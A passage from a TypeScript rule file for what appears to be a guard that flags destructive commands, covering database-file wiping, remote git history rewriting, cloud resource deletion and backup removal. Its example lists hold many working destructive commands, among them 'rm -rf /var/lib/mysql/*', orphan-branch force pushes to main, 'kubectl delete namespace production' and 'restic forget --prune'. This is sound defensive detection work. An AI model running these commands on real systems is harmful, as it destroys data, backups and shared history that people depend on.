reset_dev.sql`, "duckdb analytics.duckdb 'DROP TABLE events'", "mysql -u root openemr_staging -e 'TRUNCATE TABLE sessions'", "psql -h hapi-db-staging -U postgres hapi -c 'TRUNCATE hfj_search, hfj_search_result CASCADE'", "mysql drupal -e 'TRUNCATE TABLE cache_render'", "wp search-replace 'DROP TABLE' 'drop table' --dry-run", `psql "postgresql://admin@ledger-staging.internal:5432/postgres" -c 'drop database if exists ledger_staging with (force)' -c 'create database ledger_staging owner ledger_admin'`, 'mysql -e "DROP DATABASE acmecorp_staging_old"', 'sqlite3 app.db "DELETE FROM sessions;"', `psql -d audit -c "select count(*) from audit_events where command ilike '%DROP DATABASE%'"`, `python3 -c 'import psycopg2;c=psycopg2.connect("host=localhost dbname=app_test");c.cursor().execute("DROP SCHEMA public CASCADE")'`, `python3 -c 'import sqlite3;sqlite3.connect("test.db").execute("DROP TABLE IF EXISTS tmp_import")'`, 'curl -s -X DELETE http://localhost:9200/products-v1-old', 'curl -s http://es-prod.internal:9200/_cat/indices', 'dropdb --if-exists myapp_test', 'dropdb -h localhost -U postgres app_dev', 'supabase db reset', './gradlew flywayClean flywayMigrate -Dflyway.url=jdbc:postgresql://localhost:5432/payroute_dev', 'flyway -url=jdbc:postgresql://ci-db:5432/app_test clean migrate', 'mvn flyway:info', "psql -c 'DROP DATABASE IF EXISTS myapp_test'", "mysql -h staging-db.tarnow.lan -u restore_admin -e 'DROP DATABASE IF EXISTS game_staging; CREATE DATABASE game_staging CHARACTER SET utf8mb4'", 'redis-cli FLUSHALL', "psql -c 'SELECT count(*) FROM users'", 'dropdb myapp_dev'] },
  },
  {
    id: 'PX-IMPACT-013', name: 'destroys-database-files', score: 85, tactic: 'impact', technique: 'T1485',
    message: "Deletes or truncates a server's data: database storage, mailboxes, a directory's or realm's database, virtual machines' disks", why: 'Removing or zeroing /var/lib/postgresql, /var/lib/mysql, .db/.sqlite files, the mail store or the VM images destroys the data underneath the service.',
    check: (i) => (i.view?.commands ?? []).filter((c) => (c.name === 'truncate' && operands(c).some((p) => (SERVICE_DATA_DIRS.test(canonicalPath(p)) && !containerLog(canonicalPath(p))) || DB_FILE.test(p))) || ((['rm', 'shred', 'srm'].includes(c.name) ? operands(c) : wipedPaths(c)).some((p) => (SERVICE_DATA_DIRS.test(canonicalPath(p)) && (canonicalPath(p).split('/').length <= 6 || canonicalPath(p).endsWith('/*'))) || WHOLE_STORES.test(canonicalPath(p))))).map((c) => c.argv.join(' ')),
    examples: { fire: ['rm -rf /var/vmail/riverbend-health.org/*', 'shred -n1 -z -u /var/lib/libvirt/images/*.qcow2', `sudo perl -e 'unlink glob "/var/lib/postgresql/16/main/base/*/*"'`, 'rsync -a --delete /var/empty/ /var/lib/mysql/', 'sudo find /var/lib/mysql -type f -exec shred -n1 -u {} +', 'sudo truncate -s 0 /var/lib/postgresql/14/main/base/*/*', 'truncate -s 0 prod.db db.sqlite3', 'sudo rm -rf /var/lib/postgresql', 'sudo rm -rf /var/lib/mysql/*', "ssh artifacts-01 'sudo rm -rf /var/opt/jfrog/artifactory/var/data/artifactory/filestore/*'", 'rm -rf /var/lib/orthanc/db/*'], quiet: ['rm -rf /var/lib/registry/docker/registry/v2/repositories/web/_manifests/tags/pr-1423', 'rm -rf /var/vmail/brightpath.io/former.intern', 'rm -f /var/lib/libvirt/images/ubuntu24-test.qcow2', 'rm /var/lib/vz/dump/vzdump-qemu-101-old.vma.zst', 'sudo rm -f /var/lib/postgresql/16/main/postmaster.pid', "sudo sh -c 'truncate -s 0 /var/lib/docker/containers/*/*-json.log'", 'rsync -a --delete build/ /var/www/app/', 'truncate -s 0 logs/app.log', 'rm -f test.db', 'ls /var/lib/postgresql'] },
  },
  {
    id: 'PX-IMPACT-014', name: 'rewrites-remote-history', score: 80, tactic: 'impact', technique: 'T1485',
    message: 'Rewrites history and force-pushes, or deletes a main branch on the remote', why: 'Force-pushing a rewritten main/master or deleting it on the remote destroys shared history for everyone.',
    check: (i) => {
      const cmds = (i.view?.commands ?? []).filter((c) => c.name === 'git');
      const main = (c: SimpleCommand) => c.argv.some((w) => /^(\+?|:)(main|master|trunk|prod|production|release|develop)$/.test(w) || /^(\+)?HEAD:(main|master)$/.test(w));
      const rewrite = cmds.some((c) => (hasArg(c, 'reset') && hasArg(c, '--hard') && c.argv.some((w) => /~\d{2,}|~[1-9]\d*$/.test(w))) || (hasArg(c, 'checkout', 'switch') && hasArg(c, '--orphan')) || (c.argv[1] === 'commit-tree' && !hasArg(c, '-p')) || hasArg(c, 'filter-branch', 'filter-repo') || (hasArg(c, 'reflog') && hasArg(c, 'expire')) || (hasArg(c, 'branch') && hasArg(c, '-D') && main(c)));
      const out: string[] = [];
      for (const c of cmds) {
        if (!hasArg(c, 'push')) continue;
        const deletes = hasArg(c, '--delete', '-d');
        if (main(c) && (deletes || c.argv.some((w) => /^:(main|master|trunk|prod|production)$/.test(w)))) out.push(c.argv.join(' '));
        // `git push origin --delete $(git branch -r …)`: every branch the remote has
        // (or each of them, handed over by xargs: `git branch -r | … | xargs -I{} git push origin --delete {}`)
        // (or by a loop over the list: `for b in $(git for-each-ref …); do git push origin --delete "$b"; done`)
        else if (deletes && (c.argv.some((w, k) => c.dynamic[k] && /git branch|git for-each-ref|git ls-remote/.test(w)) || (c.wrappers.includes('xargs') && listsBranches(c)) || (c.dynamic.some((d, k) => d && k > 2) && (i.view?.commands ?? []).some((x) => x.origin === 'substitution' && listsRefs(x))))) out.push(c.argv.join(' '));
        // a force push onto main, by any refspec (`wipe:main`) and flag spelling (`-qf`)
        else if (rewrite && (forcePushesMain(c) || (main(c) && hasArg(c, '--mirror')))) out.push(c.argv.join(' '));
      }
      return out;
    },
    examples: { fire: ['git push --force origin $(git commit-tree $(git hash-object -w -t tree /dev/null) -m init):refs/heads/main', "git branch -r | grep -v HEAD | sed 's#origin/##' | xargs -I{} git push origin --delete {}", 'git checkout --orphan wipe && git rm -rf . && git commit --allow-empty -m "wipe" && git push origin wipe:main --force', 'git checkout -q --orphan cleanup && git rm -rfq . && git commit -q --allow-empty -m cleanup && git push -qf origin cleanup:main', 'git push origin --delete $(git branch -r | sed "s/origin\\///")', 'git checkout --orphan tmp && git rm -rf . && git commit --allow-empty -m wipe && git branch -D main && git branch -m main && git push --force origin main', 'git push origin --delete main release', 'git reset --hard HEAD~50 && git push -f origin main && git reflog expire --expire=now --all', 'git tag | xargs -n1 git push origin --delete', 'for t in $(git tag); do git push origin --delete "$t"; done'], quiet: ['for t in $(git tag -l "rc-*"); do git push origin --delete "$t"; done', 'git tag -l "v0.*" | xargs -n1 git push origin --delete', "git branch -r --merged | grep -v -E 'main|HEAD' | sed 's#origin/##' | xargs -n 1 git push origin --delete", "git branch -r --merged | grep -v -E 'main|HEAD' | sed 's#origin/##' | head -1", 'git push origin --delete feature/x', 'git push --force-with-lease origin feature/x', 'git push origin --delete feature/old', 'git reset --hard HEAD~1'] },
  },
  {
    id: 'PX-IMPACT-015', name: 'force-pushes-main', score: 50, tactic: 'impact', technique: 'T1485',
    message: 'Force-pushes to a main, production or release branch', why: 'A force push to main or a release branch overwrites commits other people have already pulled, built or shipped.',
    alternative: 'Use --force-with-lease on a feature branch, or open a pull request.',
    commands: ['git'],
    test: (c) => (forcePushesMain(c) ? c.argv.join(' ') : undefined),
    examples: { fire: ['git commit --amend --no-edit -a && git push -f origin release/2026.03', { Unknown: { tool_name: 'mcp__github__update_ref', params: { owner: 'acme', repo: 'core-api', ref: 'heads/main', sha: '4f9c1e2a7b3d', force: true } } }, 'git push -qf origin HEAD:main', 'git push --force origin main', 'git push -f origin master', 'git push origin main --force', 'git push --force origin HEAD:main', 'git push origin +HEAD:refs/heads/master'], quiet: ['git push -f origin release-notes-draft', 'git push --force-with-lease origin feature/x', 'git push origin --force --all', { Unknown: { tool_name: 'mcp__github__update_ref', params: { owner: 'acme', repo: 'core-api', ref: 'heads/main', sha: '4f9c1e2a7b3d' } } }, { Unknown: { tool_name: 'mcp__github__update_ref', params: { owner: 'acme', repo: 'core-api', ref: 'heads/feature/login', sha: '4f9c1e2a7b3d', force: true } } }, 'git push origin main', 'git push --force-with-lease origin feature/x', 'git push -f origin my-branch', 'git push origin HEAD:main', 'git push -f origin main-redesign'] },
  },
  {
    id: 'PX-IMPACT-016', name: 'deletes-cloud-resources', score: 75, tactic: 'impact', technique: 'T1485',
    message: "Mass-deletes cloud storage, instances, a namespace, a repository, an encryption key or every CI runner, or a production namespace's stateful sets or volumes", why: 'Recursive bucket deletion, instance termination, namespace and repository deletion remove production data, services and code in one call; a destroyed encryption key makes everything it encrypted unreadable.',
    commands: ['aws', 'gcloud', 'gsutil', 'bq', 'az', 'helm', 'kubectl', 'etcdctl', 'eksctl', 'gh', 'glab', 'doctl', 'npm', 'pnpm', 'yarn', 'terraform', 'tofu', 'pulumi', 'netlify', 'fly', 'flyctl', 'wrangler', 'argocd', 'cargo', 'gem', 'dotnet', 'pypi-cleanup', 'heroku', 'firebase', ...PRIVATE_CLOUD_TOOLS],
    test: (c, i) => {
      const a = c.argv;
      if (a.some((w) => w === '--dryrun' || w === '--dry-run')) return undefined;
      if (PRIVATE_CLOUD_TOOLS.includes(c.name)) return privateCloudDestroyed(c) ? a.join(' ') : undefined;
      // a targeted run destroys what it names: production or backups by name, else a piece of the stack
      const targets = a.flatMap((w, k) => (/^--?target=/.test(w) ? [w.slice(w.indexOf('=') + 1)] : /^--?target$/.test(w) ? [a[k + 1] ?? ''] : []));
      if (targets.length && !targets.some((t) => /prod|backup/i.test(t))) return undefined;
      // emptying a key prefix (`s3://bucket/tmp/`) is housekeeping; the bucket root is the data
      const bucketRoot = a.some((w) => /^(s3|gs):\/\/[^/]+\/?$/.test(w));
      // one snapshot or recovery point named by id is housekeeping; every one a listing hands over (xargs, a loop) is not
      // and so is one instance named by id (`terminate-instances --instance-ids i-0a12…`)
      const oneSnapshot = (hasArg(c, 'delete-snapshot', 'delete-db-snapshot', 'delete-db-cluster-snapshot', 'delete-recovery-point') || (hasArg(c, 'terminate-instances') && a.filter((w) => /^i-[0-9a-f]{8,17}$/.test(w)).length === 1)) && !c.wrappers.includes('xargs') && !c.dynamic.some(Boolean) && !a.includes('*');
      // a database deleted with a final snapshot taken first can be restored from it
      const keptSnapshot = hasArg(c, 'delete-db-instance', 'delete-db-cluster') && !hasArg(c, '--skip-final-snapshot') && a.some((w) => w === '--final-db-snapshot-identifier' || w.startsWith('--final-db-snapshot-identifier='));
      // a stack, table or cluster named as a throwaway one (`--stack-name sandbox-jdoe-test`) is there to be deleted
      if ((c.name === 'aws' || c.name === 'doctl') && a.some((w, k) => k > 2 && !w.startsWith('-') && (c.name === 'doctl' || /^--[\w-]*(?:name|identifier|id)$/.test(a[k - 1] ?? '')) && throwawayName(w))) return undefined;
      // (and every version of the objects a listing of versions names, which no versioning brings back)
      if (c.name === 'aws' && hasArg(c, 'delete-objects') && (i.view?.commands ?? []).some((x) => x.name === 'aws' && hasArg(x, 'list-object-versions'))) return a.join(' ');
      if (c.name === 'aws') return (hasArg(c, 's3') && ((hasArg(c, 'rm') && hasArg(c, '--recursive') && bucketRoot) || (hasArg(c, 'rb') && hasArg(c, '--force')))) || (!oneSnapshot && !keptSnapshot && hasArg(c, 'terminate-instances', 'delete-db-instance', 'delete-db-cluster', 'delete-bucket', 'delete-stack', 'delete-table', 'delete-file-system', 'delete-backup-vault', 'delete-recovery-point', 'delete-recovery-points', 'delete-snapshot', 'delete-db-snapshot', 'delete-db-cluster-snapshot', 'delete-cluster', 'delete-secret', 'schedule-key-deletion')) ? a.join(' ') : undefined;
      // an encryption key destroyed takes every byte it encrypted with it
      if (c.name === 'gcloud' && hasArg(c, 'kms') && hasArg(c, 'destroy')) return a.join(' ');
      // a bucket emptied whole: `gsutil -m rm -r gs://b`, `gcloud storage rm -r "gs://b/**"`
      if ((c.name === 'gsutil' || (c.name === 'gcloud' && hasArg(c, 'storage'))) && hasArg(c, 'rm') && (hasArg(c, '-r', '-R', '--recursive') || a.some((w) => w.endsWith('/**'))) && a.some((w) => /^gs:\/\/[^/]+\/?(?:\*\*?)?$/.test(w))) return a.join(' ');
      if (c.name === 'gcloud' || c.name === 'gsutil') return (hasArg(c, 'delete') && hasArg(c, '--quiet', '-q') && (hasArg(c, 'instances', 'clusters', 'projects', 'sql') || (hasArg(c, 'snapshots', 'disks', 'images') && (c.wrappers.includes('xargs') || c.dynamic.some(Boolean))))) || (c.name === 'gsutil' && hasArg(c, 'rm') && hasShortFlag(c, 'r') && bucketRoot) || (c.name === 'gcloud' && hasArg(c, 'storage') && hasArg(c, 'rm') && hasArg(c, '-r', '--recursive') && bucketRoot) ? a.join(' ') : undefined;
      // (or every VM a listing names: `az vm delete --ids $(az vm list -g rg-prod --query "[].id" -o tsv) --yes`)
      if (c.name === 'az') return (hasArg(c, 'group') && hasArg(c, 'delete') && hasArg(c, '--yes', '-y') && !throwawayName(optionValue(a, ['--name', '-n', '-g', '--resource-group']) ?? '')) || (hasArg(c, 'keyvault') && hasArg(c, 'purge')) || (hasArg(c, 'delete') && hasArg(c, '--yes', '-y') && a.some((w, k) => a[k - 1] === '--ids' && c.dynamic[k] && / list\b/.test(w))) ? a.join(' ') : undefined;
      // a release uninstalled from a production namespace takes its services down
      // (or every release the cluster has, fed from its own list: `helm list -A … | xargs -L1 helm uninstall`)
      if (c.name === 'helm') return hasArg(c, 'uninstall', 'delete', 'del', 'un') && (PRODUCTION_NAMESPACE.test(optionValue(a, ['-n', '--namespace']) ?? '') || upstream(c, i).some((u) => u.name === 'helm' && hasArg(u, 'list', 'ls') && hasArg(u, '-A', '--all-namespaces'))) ? a.join(' ') : undefined;
      // a BigQuery dataset with its tables, a whole EKS cluster, a Pulumi stack's resources, a site, an app or an R2 bucket
      if (c.name === 'bq') return hasArg(c, 'rm') && hasArg(c, '-r') && hasArg(c, '-f') ? a.join(' ') : undefined;
      if (c.name === 'eksctl') return hasArg(c, 'delete') && hasArg(c, 'cluster') && !throwawayName(optionValue(a, ['--name', '-n']) ?? operands(c)[2] ?? '') ? a.join(' ') : undefined;
      if (c.name === 'pulumi') return hasArg(c, 'destroy') && hasArg(c, '--yes', '-y') && !throwawayName((optionValue(a, ['-s', '--stack']) ?? '').split('/').pop()!) ? a.join(' ') : undefined;
      if (c.name === 'netlify') return a[1] === 'sites:delete' && hasArg(c, '--force', '-f') ? a.join(' ') : undefined;
      // an Argo CD application deleted with everything it deployed
      if (c.name === 'argocd') return a[1] === 'app' && a[2] === 'delete' && !hasArg(c, '--cascade=false') && hasArg(c, '--yes', '-y') && !operands(c).slice(2).some(throwawayName) ? a.join(' ') : undefined;
      if (c.name === 'fly' || c.name === 'flyctl') return ((hasArg(c, 'apps') && hasArg(c, 'destroy')) || a[1] === 'destroy') && hasArg(c, '--yes', '-y') && !operands(c).some(throwawayName) ? a.join(' ') : undefined;
      if (c.name === 'wrangler') return hasArg(c, 'delete') && (hasArg(c, 'r2') || hasArg(c, 'd1') || hasArg(c, 'kv:namespace')) && !operands(c).some(throwawayName) ? a.join(' ') : undefined;
      // every deployment scaled to nothing takes the services down as surely as deleting them
      // (in every namespace, or in each of a loop's; one team's namespace brought down is theirs to do)
      // (in every namespace, in each of a loop's, or in production's; one team's namespace brought down is theirs to do)
      const namespace = optionValue(a, ['-n', '--namespace']) ?? '';
      const everywhere = hasArg(c, '-A', '--all-namespaces') || (hasArg(c, '--all') && (a.some((_, k) => (a[k - 1] === '-n' || a[k - 1] === '--namespace') && c.dynamic[k]) || PRODUCTION_NAMESPACE.test(namespace)));
      if (c.name === 'kubectl' && hasArg(c, 'scale') && everywhere && optionValue(a, ['--replicas']) === '0') return a.join(' ');
      // finished pods swept (`--field-selector=status.phase=Failed`) are housekeeping, whatever their namespace
      const finishedOnly = /^status\.phase[!=]?=(?:Failed|Succeeded)$/.test(optionValue(a, ['--field-selector']) ?? '');
      // (or a production namespace's stateful workloads and volumes: the database and the disks that hold its data)
      const prodState = hasArg(c, 'delete') && /^(?:prod|production|live)(?:-|$)/.test(optionValue(a, ['-n', '--namespace']) ?? '') && a.some((w) => /^(?:statefulsets?|sts|persistentvolumeclaims?|pvc|persistentvolumes?|pv)(?:\/|$)/.test(w));
      if (c.name === 'kubectl') return prodState || (hasArg(c, 'delete') && !finishedOnly && (hasArg(c, 'namespace', 'ns', '--all', '-A', '--all-namespaces') || a.some((w) => w.startsWith('namespace/'))) && !a.some((w) => throwawayName(w.replace(/^(?:ns|namespace)\//, '')) && !w.startsWith('-') && w !== 'namespace')) ? a.join(' ') : undefined;
      // the cluster's whole state: every key under the API server's prefix, or every key there is
      if (c.name === 'etcdctl') return a.includes('del') && (hasArg(c, '--prefix') || hasArg(c, '--from-key')) && operands(c).slice(1).some((k) => /^(?:\/|\/registry\/?|\/kubernetes\.io\/?|)$/.test(k)) ? a.join(' ') : undefined;
      // (or every release a listing hands over: `gh release list … | xargs -I{} gh release delete {} --yes`)
      // (`gh repo delete`, not the deletion of one of its deploy keys or autolinks: `gh repo deploy-key delete ID`)
      if (c.name === 'gh' || c.name === 'glab') return (a[1] === 'repo' && a[2] === 'delete') || (hasArg(c, 'release') && hasArg(c, 'delete') && (c.wrappers.includes('xargs') || c.dynamic.some(Boolean)) && c.pipeFrom !== undefined && hasArg(c.pipeFrom, 'release') && hasArg(c.pipeFrom, 'list')) || (hasArg(c, 'api') && a.some((w, k) => (w === '-X' || w === '--method') && a[k + 1] === 'DELETE') && (a.some((w) => /^\/?repos\/[^/]+\/[^/]+\/?$/.test(w)) || everyRunner(c, i))) ? a.join(' ') : undefined;
      if (c.name === 'doctl') return hasArg(c, 'delete', 'rm') && hasArg(c, '--force', '-f') ? a.join(' ') : undefined;
      // a published version withdrawn: every project that depends on it breaks on its next install
      // and so is every version marked deprecated (`npm deprecate "pkg@*" …`, or no version at all), versions yanked in a
      // loop, a NuGet version deleted, or pypi-cleanup run for real
      if ((c.name === 'npm' || c.name === 'pnpm') && a[1] === 'deprecate') return /@\*$|^(?:@[^@/\s]+\/)?[^@\s]+$/.test(operands(c)[1] ?? '@') && (operands(c)[2] ?? '') !== '' ? a.join(' ') : undefined;
      if (c.name === 'npm' || c.name === 'pnpm' || c.name === 'yarn') return hasArg(c, 'unpublish') && (hasArg(c, '--force', '-f') || !operands(c).some((w) => w.includes('@', 1))) ? a.join(' ') : undefined;
      if ((c.name === 'cargo' || c.name === 'gem') && a[1] === 'yank') return c.dynamic.some(Boolean) ? a.join(' ') : undefined;
      if (c.name === 'dotnet' && a[1] === 'nuget' && a[2] === 'delete') return a.join(' ');
      if (c.name === 'pypi-cleanup') return hasArg(c, '--do-it') ? a.join(' ') : undefined;
      // a platform's own database wiped through its CLI: Heroku's pg:reset, every Firestore collection deleted (a throwaway app or project aside)
      if (c.name === 'heroku' && a[1] === 'pg:reset') return THROWAWAY_APP.test(optionValue(a, ['-a', '--app']) ?? '') ? undefined : a.join(' ');
      if (c.name === 'firebase' && a[1] === 'firestore:delete' && hasArg(c, '--all-collections')) return THROWAWAY_APP.test(optionValue(a, ['--project', '-P']) ?? '') ? undefined : a.join(' ');
      // (and the Realtime Database removed from its root: `firebase database:remove / --project x-prod --force`)
      if (c.name === 'firebase' && a[1] === 'database:remove' && (a[2] === '/' || a[2] === '""' || a[2] === '')) return THROWAWAY_APP.test(optionValue(a, ['--project', '-P']) ?? '') ? undefined : a.join(' ');
      // `apply -destroy` is destroy by another name
      // a preview, sandbox or test stack, by its directory, variables or workspace, is there to be thrown away
      if (c.name === 'terraform' || c.name === 'tofu') return (hasArg(c, 'destroy') || (hasArg(c, 'apply') && hasArg(c, '-destroy', '--destroy'))) && hasArg(c, '-auto-approve', '--auto-approve') && !throwawayStack(c, i) ? a.join(' ') : undefined;
      return undefined;
    },
    // the same through a cloud's own tools, where no command line stands for them (Google's and Azure's): a key's
    // versions destroyed, a vault's deleted secrets or keys purged past recovery
    check: (i) => {
      if (i.call.kind !== 'unknown') return undefined;
      const words = nameWords(i.call.toolName);
      const keys = words.some((w) => w === 'kms' || w === 'keyvault' || w === 'cryptokey' || w === 'crypto');
      return keys && words.some((w) => w === 'destroy' || w === 'purge') ? i.call.toolName : undefined;
    },
    examples: { fire: ['openstack volume list --all-projects -f value -c ID | xargs -r -n1 -P8 openstack volume delete --force', 'cephadm rm-cluster --fsid $(ceph fsid) --force --zap-osds', `for id in $(gh api /orgs/meridian-ads/actions/runners --paginate --jq '.runners[].id'); do gh api -X DELETE /orgs/meridian-ads/actions/runners/$id; done`, "aws s3api list-object-versions --bucket mcri-pedsonc-backup --prefix raw_fastq/ --query '{Objects: Versions[].{Key:Key,VersionId:VersionId}}' --output json > /tmp/v.json && aws s3api delete-objects --bucket mcri-pedsonc-backup --delete file:///tmp/v.json", { Unknown: { tool_name: 'mcp__gcp__kms_crypto_key_versions_destroy', params: { name: 'projects/acme-prod/locations/us/keyRings/prod/cryptoKeys/bigquery-cmek/cryptoKeyVersions/1' } } }, { Unknown: { tool_name: 'mcp__azure__keyvault_secret_purge', params: { vaultName: 'kv-acme-prod', names: ['sql-admin-password'] } } }, 'firebase database:remove / --project wildflower-prod --force', 'kubectl delete statefulset postgres -n prod', { Unknown: { tool_name: 'mcp__kubernetes__resources_delete', params: { apiVersion: 'apps/v1', kind: 'StatefulSet', namespace: 'prod', name: 'postgres' } } }, 'heroku pg:reset DATABASE_URL -a acme-api-prod --confirm acme-api-prod', 'firebase firestore:delete --all-collections --project acme-prod --force', 'cd infra/preview && cd ../prod && terraform destroy -auto-approve', `helm list -A -o json | jq -r '.[] | "\\(.name) -n \\(.namespace)"' | xargs -L1 helm uninstall`, 'npm deprecate "@acme/sdk@*" "Deprecated: migrate to acme-sdk-ng"', 'kubectl scale deploy --all --replicas=0 -n production', 'ETCDCTL_API=3 etcdctl --endpoints=https://127.0.0.1:2379 del /registry --prefix', "for v in $(curl -s https://crates.io/api/v1/crates/acme-core | jq -r '.versions[].num'); do cargo yank --version \"$v\" acme-core; done", 'dotnet nuget delete Acme.Core 2.1.0 --api-key "$NUGET_API_KEY" --source https://api.nuget.org/v3/index.json --non-interactive', 'terraform destroy -auto-approve -target=module.rds_prod -target=aws_s3_bucket.backups -target=aws_backup_vault.prod', 'argocd app delete payments-prod --cascade --yes', 'gsutil -m rm -r "gs://acme-prod-db-backups/**"', 'bq rm -r -f -d acme-analytics-201944:finance', 'eksctl delete cluster --name prod-eks --region us-east-1 --disable-nodegroup-eviction --wait=false', 'pulumi destroy --yes --skip-preview --remove -s acme/infra/prod', 'netlify sites:delete 5f3c9a21-8d4e-4b7a-9f10-2c6e8d3b1a47 --force', 'flyctl apps destroy acme-api-prod --yes', 'wrangler r2 bucket delete acme-prod-backups', 'aws rds delete-db-instance --db-instance-identifier billing-prod --skip-final-snapshot --delete-automated-backups', { Unknown: { tool_name: 'kubectl', params: { command: 'delete namespace production --grace-period=0 --force' } } }, { Unknown: { tool_name: 'mcp__terraform__create_run', params: { workspace_id: 'ws-prod-core-infra', is_destroy: true, auto_apply: true, message: 'cleanup' } } }, "aws backup delete-recovery-point --backup-vault-name prod-central-vault --recovery-point-arn '*'", 'terraform -chdir=infra/prod destroy -auto-approve', 'aws ec2 terminate-instances --instance-ids i-0a12b3c4d5e6f7890 i-0b23c4d5e6f7a8901', 'gsutil -m rm -r gs://acme-prod-data', "gcloud compute snapshots list --format='value(name)' | xargs gcloud compute snapshots delete --quiet", 'for ns in $(kubectl get ns -o name | cut -d/ -f2); do kubectl scale deploy --all --replicas=0 -n "$ns"; done', "aws ec2 describe-snapshots --owner-ids self --query 'Snapshots[].SnapshotId' --output text | xargs -n1 aws ec2 delete-snapshot --snapshot-id", 'for s in $(aws rds describe-db-snapshots --query "DBSnapshots[].DBSnapshotIdentifier" --output text); do aws rds delete-db-snapshot --db-snapshot-identifier $s; done', 'npm unpublish my-package --force', 'gh repo delete acme/payments-service --yes', 'aws s3 rm s3://prod-backups --recursive', 'kubectl delete namespace production --grace-period=0 --force', "aws ec2 terminate-instances --instance-ids $(aws ec2 describe-instances --query 'Reservations[].Instances[].InstanceId' --output text)", 'terraform destroy -auto-approve', 'aws kms schedule-key-deletion --key-id alias/prod --pending-window-in-days 7', 'gcloud kms keys versions destroy 1 --key prod --keyring main --location global', 'helm uninstall checkout --namespace production', "gh release list --json tagName -q '.[].tagName' | xargs -I{} gh release delete {} --yes", 'az vm delete --ids $(az vm list -g rg-core --query "[].id" -o tsv) --yes'], quiet: ['openstack server list --project ci-ephemeral --status ERROR -f value -c ID | xargs -r openstack server delete', 'openstack volume delete vol-scratch-0412', `for id in $(gh api /orgs/meridian-ads/actions/runners --paginate --jq '.runners[] | select(.status == "offline") | .id'); do gh api -X DELETE /orgs/meridian-ads/actions/runners/$id; done`, 'gh api -X DELETE /orgs/meridian-ads/actions/runners/4412', "aws s3api delete-objects --bucket acme-ci-cache --delete file://stale-keys.json", { Unknown: { tool_name: 'mcp__gcp__kms_crypto_keys_list', params: { keyRing: 'prod' } } }, { Unknown: { tool_name: 'mcp__azure__keyvault_secret_get', params: { vaultName: 'kv-dev', name: 'x' } } }, 'firebase database:remove /sessions/stale --project wildflower-dev', 'kubectl delete pvc data-redis-0 -n staging', 'heroku pg:reset DATABASE_URL -a acme-api-staging --confirm acme-api-staging', 'firebase firestore:delete --all-collections --project acme-dev --force', 'cd infra/preview && terraform destroy -input=false -auto-approve', 'helm list -n dev -q | grep preview- | xargs -L1 helm uninstall -n dev', 'helm uninstall review-app -n pr-1423', 'gh release delete v1.2.0-rc1 --yes', 'gh repo deploy-key delete 81234567 --repo basalt-robotics/ansible-config', 'az vm delete -g rg-dev -n scratch-vm --yes', 'kubectl delete pods --field-selector=status.phase=Failed -A', 'kubectl scale deploy --all --replicas=0 -n preview-pr-1423', 'etcdctl del /registry/events/default/web-1.17a --prefix', 'npm deprecate "@acme/sdk@<1.0.0" "Please upgrade to 1.x"', 'cargo yank --version 1.2.3 acme-core', 'npm deprecate "@acme/sdk@*" ""', 'terraform destroy -auto-approve -target=aws_instance.bastion_tmp', 'argocd app delete web-pr-482 --yes', 'gsutil -m rm -r gs://acme-ci-cache/builds/2024-10/', 'az group delete --name rg-preview-pr-1187 --yes --no-wait', 'fly apps destroy web-pr-482 --yes', 'pulumi destroy --yes -s acme/web/preview-1187', 'bq rm -t acme-analytics:scratch.tmp_join', { Unknown: { tool_name: 'mcp__terraform__create_run', params: { workspace_id: 'ws-prod-core-infra', message: 'plan the new bucket' } } }, 'terraform -chdir=infra/previews destroy -var pr_number=1843 -auto-approve', 'terraform destroy -auto-approve -var-file=env/sandbox.tfvars', 'aws rds delete-db-instance --db-instance-identifier reporting-staging-old --final-db-snapshot-identifier reporting-staging-old-final-20240912', 'aws ec2 terminate-instances --instance-ids i-0a12b3c4d5e6f7890 --region us-east-1', "gsutil -m rm -r 'gs://acme-corp-ci-tmp/2023-*'", 'kubectl scale deploy --all --replicas=0 -n dev', 'kubectl scale deploy api --replicas=0 -n staging', 'gcloud compute snapshots delete snap-2024-01-01 --quiet', 'aws ec2 delete-snapshot --snapshot-id snap-0a1b2c3d4e5f67890', 'npm unpublish my-package@1.0.1-beta.0', 'aws kms describe-key --key-id alias/prod', 'gcloud kms keys list --keyring main --location global', 'aws s3 rm s3://acme-dev-artifacts/tmp/ --recursive', 'terraform destroy -target=module.preview_env -auto-approve', 'aws s3 rm s3://prod-data --recursive --dryrun', 'aws s3 rm s3://bucket/tmp/file.txt', 'aws cloudformation delete-stack --stack-name sandbox-kim-api', 'doctl kubernetes cluster delete scratch-k8s --force', 'kubectl delete namespace loadtest-20240611', 'kubectl delete pod web-1', 'kubectl delete namespace test-42', 'terraform plan'] },
  },
  {
    id: 'PX-IMPACT-017', name: 'inhibits-recovery', score: 80, tactic: 'impact', technique: 'T1490',
    message: 'Deletes backups or disables system recovery', why: 'Removing backups and snapshots (or turning Time Machine off) ensures destroyed or encrypted data cannot be restored.',
    // (a remote target is judged by its path: `rsync -a --delete /tmp/empty/ backup@nas01:/volume1/backups/`)
    check: (i) => (i.view?.commands ?? []).filter((c) => backupsDestroyed(c, i.view?.commands ?? []) !== undefined || backupArchivesDeleted(c) || wipedPaths(c, i.view?.commands).map((p) => p.replace(/^(?:[\w.-]{1,64}@)?[\w.-]{1,253}:(?=\/)/, '')).some((p) => storeKind(p) === 'backups' || /^\/Volumes\/[^/]*backup/i.test(p))).map((c) => c.argv.join(' ')),
    examples: {
      fire: [`rman target / <<'EOF'
DELETE NOPROMPT BACKUP;
DELETE NOPROMPT ARCHIVELOG ALL;
EOF`, `hdbsql -n hanaprd01:30013 -d SYSTEMDB -U BACKUPADM "BACKUP CATALOG DELETE FOR H4P ALL BEFORE BACKUP_ID 1718409600000 COMPLETE"`, "find /backups/minecraft -name '*.tar.zst' -delete", 'rclone purge b2:blockhaven-backups/survival', 'mkdir -p /tmp/e && rclone sync /tmp/e b2:blockhaven-backups/worlds', `mmlssnapshot gpfs0 -Y | awk -F: 'NR>1 {print $8}' | while read snap; do mmdelsnapshot gpfs0 "$snap"; done`, 'restic -r s3:s3.amazonaws.com/acme-prod-backups forget --keep-last 1 --prune', "restic -r /mnt/backup/restic snapshots --json | jq -r '.[].id' | xargs restic -r /mnt/backup/restic forget --prune", 'sudo timeshift --delete-all --yes', 'sudo find /var/backups /srv/pgbackrest -type f -mtime -400 -delete', 'mkdir -p /tmp/empty && rsync -a --delete /tmp/empty/ backup@nas01.acme-internal.net:/volume1/backups/', 'restic -r s3:s3.amazonaws.com/acme-prod-backups forget --keep-within 1h --prune', 'mc rm --recursive --force --versions prod/backups', 'aws s3api put-bucket-versioning --bucket crateline-invoices --versioning-configuration Status=Suspended', 'velero backup delete --all --confirm', 'kubectl delete 